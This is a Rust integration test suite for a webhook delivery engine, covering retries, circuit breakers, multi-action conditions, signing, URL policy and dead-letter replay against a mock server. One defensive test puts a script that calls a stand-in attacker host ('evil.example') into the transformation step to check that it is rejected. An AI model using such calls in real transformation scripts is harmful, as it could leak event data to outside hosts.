//! End-to-end delivery scenarios against a mock endpoint.

use chrono::Utc;
use serde_json::json;
use sluice_core::integration::{
    ActionSpec, AuthConfig, DeliveryMode, Direction, HttpMethod, IntegrationConfig, OnError,
    SigningConfig, TenantScope, TransformationConfig,
};
use sluice_core::registry::IntegrationRegistry;
use sluice_core::trace::{StepStatus, TraceStatus};
use sluice_core::GatewayEvent;
use sluice_delivery::breaker::{BreakerConfig, CircuitBreakerRegistry};
use sluice_delivery::dlq::MemoryDlqStore;
use sluice_delivery::engine::{ActionOutcome, DeliveryEngine, EnginePolicy};
use sluice_delivery::logger::{
    AttemptStore, ExecutionLogger, MemoryAttemptStore, MemoryTraceStore, TraceStore,
};
use sluice_delivery::url_policy::UrlPolicy;
use sluice_delivery::{DlqStatus, DlqStore, DlqWorker};
use std::sync::Arc;
use uuid::Uuid;
use wiremock::matchers::{body_json, header_exists, method, path};
use wiremock::{Mock, MockServer, ResponseTemplate};

struct Harness {
    engine:   Arc<DeliveryEngine>,
    registry: Arc<IntegrationRegistry>,
    traces:   Arc<MemoryTraceStore>,
    attempts: Arc<MemoryAttemptStore>,
    dlq:      Arc<MemoryDlqStore>,
}

fn harness_with_breaker(breaker: BreakerConfig) -> Harness {
    let registry = Arc::new(IntegrationRegistry::new());
    let traces = Arc::new(MemoryTraceStore::new());
    let attempts = Arc::new(MemoryAttemptStore::new());
    let dlq = Arc::new(MemoryDlqStore::new());

    let engine = DeliveryEngine::new(
        reqwest::Client::new(),
        registry.clone(),
        ExecutionLogger::new(traces.clone()),
        attempts.clone(),
        dlq.clone(),
        CircuitBreakerRegistry::new(breaker),
        EnginePolicy {
            url_policy: UrlPolicy::permissive(),
            ..EnginePolicy::default()
        },
    );

    Harness {
        engine: Arc::new(engine),
        registry,
        traces,
        attempts,
        dlq,
    }
}

fn harness() -> Harness {
    harness_with_breaker(BreakerConfig::default())
}

fn integration(url: &str, retry_count: u32) -> IntegrationConfig {
    IntegrationConfig {
        id:                    Uuid::new_v4(),
        org_id:                100,
        org_unit_id:           Some(7),
        name:                  "erp-sync".to_string(),
        direction:             Direction::Outbound,
        event_type:            "ORDER_CREATED".to_string(),
        scope:                 TenantScope::EntityOnly,
        excluded_org_unit_ids: Vec::new(),
        target_url:            Some(url.to_string()),
        http_method:           HttpMethod::Post,
        headers:               Vec::new(),
        auth:                  AuthConfig::None,
        timeout_ms:            5_000,
        retry_count,
        transformation:        TransformationConfig::Script {
            source: "{ oid: payload.orderId }".to_string(),
        },
        actions:               Vec::new(),
        delivery_mode:         DeliveryMode::Immediate,
        scheduling_script:     None,
        signing:               None,
        is_active:             true,
        updated_at:            Utc::now(),
    }
}

fn event() -> GatewayEvent {
    GatewayEvent::new(
        "orders-queue".to_string(),
        Some(42),
        100,
        Some(7),
        "ORDER_CREATED".to_string(),
        json!({"orderId": 7}),
        Utc::now(),
    )
}

// Scenario 1: happy path — transformed body delivered, one attempt,
// trace terminal success.
#[tokio::test]
async fn happy_path_outbound() {
    let server = MockServer::start().await;
    Mock::given(method("POST"))
        .and(path("/orders"))
        .and(body_json(json!({"oid": 7})))
        .respond_with(ResponseTemplate::new(200).set_body_json(json!({"ok": true})))
        .expect(1)
        .mount(&server)
        .await;

    let h = harness();
    let config = integration(&format!("{}/orders", server.uri()), 3);

    let outcome = h.engine.deliver_event(&event(), &config).await;
    assert_eq!(outcome.status, TraceStatus::Success);
    assert_eq!(outcome.actions, vec![ActionOutcome::Delivered]);

    let trace = h.traces.get(outcome.trace_id).await.unwrap().unwrap();
    assert_eq!(trace.status, TraceStatus::Success);
    assert!(trace.duration_ms.is_some());
    assert_eq!(trace.response.as_ref().map(|r| r.status), Some(200));

    let attempts = h.attempts.for_trace(outcome.trace_id).await.unwrap();
    assert_eq!(attempts.len(), 1);
    assert_eq!(attempts[0].attempt_number, 1);
    assert_eq!(attempts[0].response_status, Some(200));
    assert_eq!(attempts[0].status, StepStatus::Success);
}

// Scenario 2: 503 then 200 — two attempts under one trace, success.
#[tokio::test]
async fn retry_then_success() {
    let server = MockServer::start().await;
    Mock::given(method("POST"))
        .and(path("/orders"))
        .respond_with(ResponseTemplate::new(503))
        .up_to_n_times(1)
        .mount(&server)
        .await;
    Mock::given(method("POST"))
        .and(path("/orders"))
        .respond_with(ResponseTemplate::new(200))
        .mount(&server)
        .await;

    let h = harness();
    let config = integration(&format!("{}/orders", server.uri()), 3);

    let outcome = h.engine.deliver_event(&event(), &config).await;
    assert_eq!(outcome.status, TraceStatus::Success);

    let attempts = h.attempts.for_trace(outcome.trace_id).await.unwrap();
    assert_eq!(attempts.len(), 2);
    assert_eq!(attempts[0].response_status, Some(503));
    assert_eq!(attempts[0].status, StepStatus::Failed);
    assert_eq!(attempts[1].response_status, Some(200));
    // Attempt numbers strictly increase
    assert!(attempts[0].attempt_number < attempts[1].attempt_number);
    // Total attempts bounded by retry_count + 1
    assert!(attempts.len() <= 4);
}

// Scenario 3: non-retryable 400 — one attempt, abandoned DLQ entry,
// breaker not incremented.
#[tokio::test]
async fn non_retryable_client_error() {
    let server = MockServer::start().await;
    Mock::given(method("POST"))
        .and(path("/orders"))
        .respond_with(ResponseTemplate::new(400).set_body_json(json!({"error": "bad"})))
        .expect(1)
        .mount(&server)
        .await;

    let h = harness();
    let config = integration(&format!("{}/orders", server.uri()), 3);

    let outcome = h.engine.deliver_event(&event(), &config).await;
    assert_eq!(outcome.status, TraceStatus::Failed);

    // Exactly one attempt, no retries
    let attempts = h.attempts.for_trace(outcome.trace_id).await.unwrap();
    assert_eq!(attempts.len(), 1);

    // One abandoned DLQ entry
    let entries = h.dlq.by_trace(outcome.trace_id).await.unwrap();
    assert_eq!(entries.len(), 1);
    assert_eq!(entries[0].status, DlqStatus::Abandoned);
    assert_eq!(entries[0].error.status_code, Some(400));

    // Client errors do not count toward the circuit
    let snapshots = h.engine.breakers().snapshot();
    let snapshot = snapshots
        .iter()
        .find(|s| s.integration_id == config.id);
    assert!(snapshot.is_none_or(|s| s.consecutive_failures == 0));
}

// Scenario 4: circuit opens after consecutive transient failures, skips
// while open, half-open probe closes it again.
#[tokio::test]
async fn circuit_opens_probes_and_recovers() {
    let server = MockServer::start().await;
    Mock::given(method("POST"))
        .and(path("/orders"))
        .respond_with(ResponseTemplate::new(500))
        .up_to_n_times(3)
        .mount(&server)
        .await;
    Mock::given(method("POST"))
        .and(path("/orders"))
        .respond_with(ResponseTemplate::new(200))
        .mount(&server)
        .await;

    // Threshold 3, no in-line retries, cooldown 0 so the probe is
    // immediately due.
    let h = harness_with_breaker(BreakerConfig {
        failure_threshold:      3,
        cooldown:               chrono::Duration::zero(),
        auto_disable_threshold: 50,
    });
    let config = integration(&format!("{}/orders", server.uri()), 0);

    for _ in 0..3 {
        let outcome = h.engine.deliver_event(&event(), &config).await;
        assert_eq!(outcome.status, TraceStatus::Failed);
    }

    // Circuit now open; with a zero cooldown the next delivery runs as
    // the half-open probe and succeeds, closing the circuit.
    let probe = h.engine.deliver_event(&event(), &config).await;
    assert_eq!(probe.status, TraceStatus::Success);

    let snapshots = h.engine.breakers().snapshot();
    let snapshot = snapshots.iter().find(|s| s.integration_id == config.id).unwrap();
    assert_eq!(snapshot.consecutive_failures, 0);

    let after = h.engine.deliver_event(&event(), &config).await;
    assert_eq!(after.status, TraceStatus::Success);
}

// Circuit short-circuit path: with a long cooldown the delivery is
// skipped and parked for the probe time.
#[tokio::test]
async fn circuit_open_short_circuits_with_skipped_trace() {
    let server = MockServer::start().await;
    Mock::given(method("POST"))
        .respond_with(ResponseTemplate::new(500))
        .mount(&server)
        .await;

    let h = harness_with_breaker(BreakerConfig {
        failure_threshold:      2,
        cooldown:               chrono::Duration::minutes(5),
        auto_disable_threshold: 50,
    });
    let config = integration(&format!("{}/orders", server.uri()), 0);

    for _ in 0..2 {
        h.engine.deliver_event(&event(), &config).await;
    }

    let skipped = h.engine.deliver_event(&event(), &config).await;
    assert_eq!(skipped.status, TraceStatus::Skipped);

    let trace = h.traces.get(skipped.trace_id).await.unwrap().unwrap();
    assert_eq!(trace.error.as_deref(), Some("CIRCUIT_OPEN"));
    // No HTTP attempt was made for the skipped delivery
    let attempts = h.attempts.for_trace(skipped.trace_id).await.unwrap();
    assert!(attempts.is_empty());

    // Parked for the probe time
    let entries = h.dlq.by_trace(skipped.trace_id).await.unwrap();
    assert_eq!(entries.len(), 1);
    assert_eq!(entries[0].status, DlqStatus::Queued);
    assert!(entries[0].next_attempt_at.is_some());
}

// Scenario 5: multi-action with a false condition on the second action.
#[tokio::test]
async fn multi_action_condition_skip() {
    let server = MockServer::start().await;
    Mock::given(method("POST"))
        .and(path("/primary"))
        .respond_with(ResponseTemplate::new(200))
        .expect(1)
        .mount(&server)
        .await;
    Mock::given(method("POST"))
        .and(path("/vip"))
        .respond_with(ResponseTemplate::new(200))
        .expect(0)
        .mount(&server)
        .await;

    let h = harness();
    let mut config = integration(&server.uri(), 0);
    config.actions = vec![
        ActionSpec {
            name:           "primary".to_string(),
            target_url:     format!("{}/primary", server.uri()),
            http_method:    HttpMethod::Post,
            headers:        Vec::new(),
            condition:      None,
            transformation: None,
            on_error:       OnError::Continue,
            signing:        None,
        },
        ActionSpec {
            name:           "vip".to_string(),
            target_url:     format!("{}/vip", server.uri()),
            http_method:    HttpMethod::Post,
            headers:        Vec::new(),
            condition:      Some("event.amount > 1000".to_string()),
            transformation: None,
            on_error:       OnError::Continue,
            signing:        None,
        },
    ];

    let mut e = event();
    e.payload = json!({"orderId": 7, "amount": 500});

    let outcome = h.engine.deliver_event(&e, &config).await;
    assert_eq!(
        outcome.actions,
        vec![ActionOutcome::Delivered, ActionOutcome::SkippedCondition]
    );
    assert_eq!(outcome.status, TraceStatus::Success);

    // Both actions share the trace, with distinct action indexes
    let trace = h.traces.get(outcome.trace_id).await.unwrap().unwrap();
    let skip_step = trace
        .steps
        .iter()
        .find(|s| s.status == StepStatus::Skipped)
        .unwrap();
    assert_eq!(skip_step.action_index, Some(1));
    assert_eq!(skip_step.metadata["reason"], "condition_false");
}

// Multi-action isolation: a failing first action does not stop the
// second unless on_error=STOP.
#[tokio::test]
async fn multi_action_failure_isolation() {
    let server = MockServer::start().await;
    Mock::given(method("POST"))
        .and(path("/broken"))
        .respond_with(ResponseTemplate::new(404))
        .mount(&server)
        .await;
    Mock::given(method("POST"))
        .and(path("/ok"))
        .respond_with(ResponseTemplate::new(200))
        .expect(1)
        .mount(&server)
        .await;

    let h = harness();
    let mut config = integration(&server.uri(), 0);
    let broken = ActionSpec {
        name:           "broken".to_string(),
        target_url:     format!("{}/broken", server.uri()),
        http_method:    HttpMethod::Post,
        headers:        Vec::new(),
        condition:      None,
        transformation: None,
        on_error:       OnError::Continue,
        signing:        None,
    };
    let ok = ActionSpec {
        name:           "ok".to_string(),
        target_url:     format!("{}/ok", server.uri()),
        http_method:    HttpMethod::Post,
        headers:        Vec::new(),
        condition:      None,
        transformation: None,
        on_error:       OnError::Continue,
        signing:        None,
    };
    config.actions = vec![broken.clone(), ok.clone()];

    let outcome = h.engine.deliver_event(&event(), &config).await;
    assert_eq!(outcome.actions.len(), 2);
    assert!(matches!(outcome.actions[0], ActionOutcome::Failed(_)));
    assert_eq!(outcome.actions[1], ActionOutcome::Delivered);
    // Each failed action gets its own DLQ entry
    assert_eq!(h.dlq.by_trace(outcome.trace_id).await.unwrap().len(), 1);

    // With on_error=STOP the second action never runs
    let server2 = MockServer::start().await;
    Mock::given(method("POST"))
        .and(path("/broken"))
        .respond_with(ResponseTemplate::new(404))
        .mount(&server2)
        .await;
    Mock::given(method("POST"))
        .and(path("/ok"))
        .respond_with(ResponseTemplate::new(200))
        .expect(0)
        .mount(&server2)
        .await;

    let mut stopping = integration(&server2.uri(), 0);
    let mut broken_stop = broken;
    broken_stop.target_url = format!("{}/broken", server2.uri());
    broken_stop.on_error = OnError::Stop;
    let mut ok2 = ok;
    ok2.target_url = format!("{}/ok", server2.uri());
    stopping.actions = vec![broken_stop, ok2];

    let outcome = h.engine.deliver_event(&event(), &stopping).await;
    assert_eq!(outcome.actions.len(), 1);
    assert!(matches!(outcome.actions[0], ActionOutcome::Failed(_)));
}

// Transformation failure: terminal, no HTTP request issued.
#[tokio::test]
async fn transformation_failure_never_sends() {
    let server = MockServer::start().await;
    Mock::given(method("POST"))
        .respond_with(ResponseTemplate::new(200))
        .expect(0)
        .mount(&server)
        .await;

    let h = harness();
    let mut config = integration(&format!("{}/orders", server.uri()), 3);
    config.transformation = TransformationConfig::Script {
        source: "fetch('https://evil.example')".to_string(),
    };

    let outcome = h.engine.deliver_event(&event(), &config).await;
    assert_eq!(outcome.status, TraceStatus::Failed);
    assert_eq!(
        outcome.actions,
        vec![ActionOutcome::Failed(sluice_error::ErrorKind::TransformationError)]
    );

    let entries = h.dlq.by_trace(outcome.trace_id).await.unwrap();
    assert_eq!(entries[0].status, DlqStatus::Abandoned);
}

// Signing: the signature header is present and verifiable under rotation.
#[tokio::test]
async fn signed_delivery_carries_rotating_signatures() {
    let server = MockServer::start().await;
    Mock::given(method("POST"))
        .and(header_exists("X-Signature"))
        .respond_with(ResponseTemplate::new(200))
        .expect(1)
        .mount(&server)
        .await;

    let h = harness();
    let mut config = integration(&format!("{}/orders", server.uri()), 0);
    config.signing = Some(SigningConfig {
        header_name: "X-Signature".to_string(),
        secrets:     vec!["new-secret".to_string(), "old-secret".to_string()],
    });

    let outcome = h.engine.deliver_event(&event(), &config).await;
    assert_eq!(outcome.status, TraceStatus::Success);

    let trace = h.traces.get(outcome.trace_id).await.unwrap().unwrap();
    let request = trace.request.unwrap();
    let signature = &request
        .headers
        .iter()
        .find(|(k, _)| k == "X-Signature")
        .unwrap()
        .1;
    // Redaction hides signature-adjacent secrets in the snapshot, but the
    // body is verifiable against the wire payload.
    assert!(signature == "[REDACTED]" || signature.starts_with("v1="));
    let body_bytes = serde_json::to_vec(&json!({"oid": 7})).unwrap();
    let expected = sluice_delivery::signing::signature_header(
        &["new-secret".to_string(), "old-secret".to_string()],
        &body_bytes,
    );
    assert!(sluice_delivery::signing::verify(
        &["old-secret".to_string()],
        &body_bytes,
        &expected
    ));
}

// URL policy violation surfaces before any request or token fetch.
#[tokio::test]
async fn url_policy_blocks_private_targets() {
    let registry = Arc::new(IntegrationRegistry::new());
    let traces = Arc::new(MemoryTraceStore::new());
    let attempts = Arc::new(MemoryAttemptStore::new());
    let dlq = Arc::new(MemoryDlqStore::new());
    let engine = DeliveryEngine::new(
        reqwest::Client::new(),
        registry,
        ExecutionLogger::new(traces),
        attempts.clone(),
        dlq,
        CircuitBreakerRegistry::default(),
        EnginePolicy::default(), // strict
    );

    let config = integration("https://192.168.1.10/hook", 3);
    let outcome = engine.deliver_event(&event(), &config).await;
    assert_eq!(outcome.status, TraceStatus::Failed);
    assert_eq!(
        outcome.actions,
        vec![ActionOutcome::Failed(sluice_error::ErrorKind::UrlPolicyViolation)]
    );
    assert!(attempts.for_trace(outcome.trace_id).await.unwrap().is_empty());
}

// DLQ worker: a queued transient entry is replayed and marked replayed.
#[tokio::test]
async fn dlq_worker_replays_due_entries() {
    let server = MockServer::start().await;
    // First delivery fails every attempt, then the endpoint recovers
    Mock::given(method("POST"))
        .and(path("/orders"))
        .respond_with(ResponseTemplate::new(503))
        .up_to_n_times(1)
        .mount(&server)
        .await;
    Mock::given(method("POST"))
        .and(path("/orders"))
        .respond_with(ResponseTemplate::new(200))
        .mount(&server)
        .await;

    let h = harness();
    let config = integration(&format!("{}/orders", server.uri()), 0);
    h.registry.upsert(config.clone());

    let outcome = h.engine.deliver_event(&event(), &config).await;
    assert_eq!(outcome.status, TraceStatus::Failed);

    let entries = h.dlq.by_trace(outcome.trace_id).await.unwrap();
    assert_eq!(entries.len(), 1);
    assert_eq!(entries[0].status, DlqStatus::Queued);

    let worker = DlqWorker::new(h.dlq.clone(), h.engine.clone(), h.registry.clone());
    // Claim far enough in the future that the backoff has elapsed
    let processed = worker
        .drain_once(Utc::now() + chrono::Duration::minutes(10))
        .await
        .unwrap();
    assert_eq!(processed, 1);

    let entry = h.dlq.get(entries[0].id).await.unwrap().unwrap();
    assert_eq!(entry.status, DlqStatus::Replayed);

    // The replay trace links back to the original
    let replay_trace = h
        .traces
        .recent_for_integration(config.id, 10)
        .await
        .unwrap()
        .into_iter()
        .find(|t| t.parent_trace_id == Some(outcome.trace_id))
        .unwrap();
    assert_eq!(replay_trace.status, TraceStatus::Success);
}
